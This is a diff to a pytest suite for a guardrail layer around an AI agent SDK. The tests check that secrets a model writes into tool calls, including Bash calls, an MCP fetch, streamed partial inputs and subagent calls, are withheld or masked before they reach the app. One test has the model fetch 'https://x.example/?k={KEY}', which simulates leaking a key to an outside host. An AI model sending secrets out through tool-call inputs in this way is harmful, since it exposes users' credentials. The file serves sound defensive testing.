@@ -13,7 +13,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from claude_agent_sdk import ResultMessage
+from claude_agent_sdk import AssistantMessage, ResultMessage, StreamEvent, ToolUseBlock
 
 from akto_otel import hooks as hooks_module
 from akto_otel import windows
@@ -107,11 +107,6 @@ async def test_a_failing_tools_denied_output_never_reaches_the_model(
 # ------------------------------------------- 2. an answer written into a tool call
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="review finding: a tool call's input is judged only as a request (PreToolUse), "
-    "never with the response guardrail, and reaches the app in the ToolUseBlock",
-)
 @pytest.mark.parametrize("fail_mode", FAIL_MODES)
 async def test_a_secret_the_model_writes_into_a_tool_call_never_reaches_the_app(
     akto: EmulatorServer, capture: SpanCapture, home: Path, workdir: Path, fail_mode: str
@@ -128,6 +123,155 @@ async def test_a_secret_the_model_writes_into_a_tool_call_never_reaches_the_app(
         messages = [m async for m in guard.query("go", options(fake, home, workdir))]
     guard.shutdown()
     assert KEY not in _seen(messages)
+
+
+def _calls(messages: list[Any]) -> list[Any]:
+    return [
+        b
+        for m in messages
+        if isinstance(m, AssistantMessage)
+        for b in m.content
+        if isinstance(b, ToolUseBlock)
+    ]
+
+
+async def _run_calls(
+    akto: EmulatorServer,
+    capture: SpanCapture,
+    home: Path,
+    workdir: Path,
+    scenarios: Scenario | list[Scenario],
+    fail_mode: str = "closed",
+    **kw: Any,
+) -> list[Any]:
+    guard = make_guard(akto, capture, fail_mode=fail_mode)
+    with FakeAnthropic(scenarios) as fake:
+        messages = [m async for m in guard.query("go", options(fake, home, workdir, **kw))]
+    guard.shutdown()
+    return messages
+
+
+async def test_a_secret_in_an_mcp_tool_calls_input_never_reaches_the_app(
+    akto: EmulatorServer, capture: SpanCapture, home: Path, workdir: Path
+) -> None:
+    """The same attack through an MCP tool's input (the app renders MCP calls too)."""
+    from claude_agent_sdk import create_sdk_mcp_server, tool
+
+    @tool("fetch", "Fetch a page", {"url": str})
+    async def fetch(args: dict[str, Any]) -> dict[str, Any]:
+        return {"content": [{"type": "text", "text": "fetched"}]}
+
+    server = create_sdk_mcp_server("web", tools=[fetch])
+    call = ToolUse("mcp__web__fetch", {"url": f"https://x.example/?k={KEY}"})
+    messages = await _run_calls(
+        akto,
+        capture,
+        home,
+        workdir,
+        Scenario(None, [Step(tool_uses=(call,)), Text("done")]),
+        mcp_servers={"web": server},
+        allowed_tools=["mcp__web__fetch"],
+    )
+    assert _calls(messages), "the call's block still reaches the app (withheld input)"
+    assert KEY not in _seen(messages)
+    result = messages[-1]
+    assert isinstance(result, ResultMessage) and result.is_error is True
+    assert result.subtype == "error_guardrail" and "AWS key in response" in (result.result or "")
+
+
+async def test_the_partial_input_deltas_of_a_secret_tool_call_never_reach_the_app(
+    akto: EmulatorServer, capture: SpanCapture, home: Path, workdir: Path
+) -> None:
+    """With ``include_partial_messages=True`` the call's input also streams as
+    ``input_json_delta`` events before the whole block: held and dropped with it."""
+    call = ToolUse("Bash", {"command": "true", "description": f"note: {KEY}"})
+    messages = await _run_calls(
+        akto,
+        capture,
+        home,
+        workdir,
+        Scenario(None, [Step(tool_uses=(call,)), Text("done")]),
+        include_partial_messages=True,
+    )
+    events = [m for m in messages if isinstance(m, StreamEvent)]
+    assert events, "the stream carried partial events (the attack's precondition)"
+    assert KEY not in _seen(messages)
+
+
+async def test_a_tool_call_pretooluse_denied_reaches_the_app_without_its_input(
+    capture: SpanCapture, home: Path, workdir: Path
+) -> None:
+    """PreToolUse denies the call for what its input holds (a request policy): the
+    app gets the call with its input withheld, never the original, and an error result
+    with the reason, as for a denied answer."""
+    policy = Policy((*RULES, rule("key-call", "PreToolUse", "CALL-SECRET", reason="Key in call")))
+    server = EmulatorServer(policy)
+    server.start()
+    try:
+        call = ToolUse("Bash", {"command": "echo CALL-SECRET-99"})
+        messages = await _run_calls(
+            server, capture, home, workdir, Scenario(None, [Step(tool_uses=(call,)), Text("ok")])
+        )
+    finally:
+        server.stop()
+    [block] = _calls(messages)
+    assert "CALL-SECRET" not in _seen(messages)
+    assert "Key in call" in json.dumps(block.input)
+    result = messages[-1]
+    assert isinstance(result, ResultMessage) and result.is_error is True
+    assert result.subtype == "error_guardrail" and "Key in call" in (result.result or "")
+
+
+async def test_a_tool_call_pretooluse_masked_reaches_the_app_masked(
+    capture: SpanCapture, home: Path, workdir: Path
+) -> None:
+    """PreToolUse masks part of the input: the app gets the input the tool ran with."""
+    masking = rule("mask-call", "PreToolUse", "CALL-SECRET-99", mask="[MASKED]")
+    server = EmulatorServer(Policy((*RULES, masking)))
+    server.start()
+    try:
+        call = ToolUse("Bash", {"command": "echo CALL-SECRET-99"})
+        messages = await _run_calls(
+            server, capture, home, workdir, Scenario(None, [Step(tool_uses=(call,)), Text("ok")])
+        )
+    finally:
+        server.stop()
+    [block] = _calls(messages)
+    assert "CALL-SECRET" not in _seen(messages)
+    assert block.input.get("command") == "echo [MASKED]"
+
+
+async def test_a_secret_in_a_subagents_tool_call_never_reaches_the_app(
+    akto: EmulatorServer, capture: SpanCapture, home: Path, workdir: Path
+) -> None:
+    """A subagent writes the key into its own tool call; its messages reach the
+    parent's stream (``parent_tool_use_id`` set) and must be held the same way."""
+    from akto_otel.testing import delegation
+
+    call = ToolUse("Bash", {"command": "true", "description": f"note: {KEY}"})
+    scenarios = [
+        Scenario("Research the repo", [Step(tool_uses=(call,)), Text("nothing found")]),
+        delegation("go", "Research the repo"),
+    ]
+    messages = await _run_calls(akto, capture, home, workdir, scenarios)
+    assert any(
+        getattr(m, "parent_tool_use_id", None) for m in messages if isinstance(m, AssistantMessage)
+    ), "the subagent's messages reached the parent's stream (the attack's precondition)"
+    assert KEY not in _seen(messages)
+
+
+async def test_a_clean_tool_call_reaches_the_app_unchanged(
+    akto: EmulatorServer, capture: SpanCapture, home: Path, workdir: Path
+) -> None:
+    """Control: an allowed call's input reaches the app as the model wrote it."""
+    call = ToolUse("Bash", {"command": "true", "description": "a harmless note"})
+    messages = await _run_calls(
+        akto, capture, home, workdir, Scenario(None, [Step(tool_uses=(call,)), Text("done")])
+    )
+    [block] = _calls(messages)
+    assert block.input == {"command": "true", "description": "a harmless note"}
+    result = messages[-1]
+    assert isinstance(result, ResultMessage) and result.is_error is False
 
 
 # ----------------------------------- 3. fail-open is loud: an unjudged window hidden
